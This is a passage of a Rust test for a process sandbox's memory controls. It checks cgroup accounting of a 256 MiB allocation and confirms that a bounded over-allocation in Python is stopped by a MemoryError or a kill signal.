        // No address-space limit: runtimes that reserve large areas (V8,
        // JVMs, ASan) keep working.
        let out = sandbox.run(dirs.sh("grep 'Max address space' /proc/self/limits")).await.unwrap();
        assert!(assert_ok(&out).contains("unlimited"), "{}", text(&out));
        // What the sandbox allocates is charged to that cgroup.
        let out = sandbox
            .run(dirs.python("a = b'x' * (256 << 20); print('allocated', len(a) >> 20, 'MiB')"))
            .await
            .unwrap();
        assert_eq!(assert_ok(&out), "allocated 256 MiB\n");
        if cgroup.join(peak_file).exists() {
            let peak = cgroup_number(&cgroup, peak_file);
            assert!(peak >= 256 << 20, "{peak_file} is {peak}: the allocation was not charged to the cgroup");
        }
        // Past the limit, only where the default is small enough to reach
        // safely; elsewhere its value, checked above, is what stops a bomb.
        if limit <= 2 << 30 {
            let code = format!(
                "
                chunks = []
                while len(chunks) < {chunks}:
                    chunks.append(b'x' * (64 << 20))
                print('ESCAPED: past the limit')
                ",
                chunks = limit / (32 << 20)
            );
            let out = sandbox.run(dirs.python(&code)).await.unwrap();
            let text = text(&out);
            assert!(!out.status.success() && !text.contains(ESCAPED), "{text}");
            assert!(
                text.contains("MemoryError") || out.status.signal == Some(9),
                "neither MemoryError nor killed ({:?}):\n{text}",
                out.status
            );
        } else {
            eprintln!(
                "{TEST}: the default of {limit} bytes is too large to exhaust here; checked its value instead"
            );
        }
        assert_eq!(assert_ok(&sandbox.run(dirs.sh("echo alive")).await.unwrap()), "alive\n");
        sandbox.shutdown().await.unwrap();
        assert!(StdCommand::new("true").status().unwrap().success());
    })
    .await
}
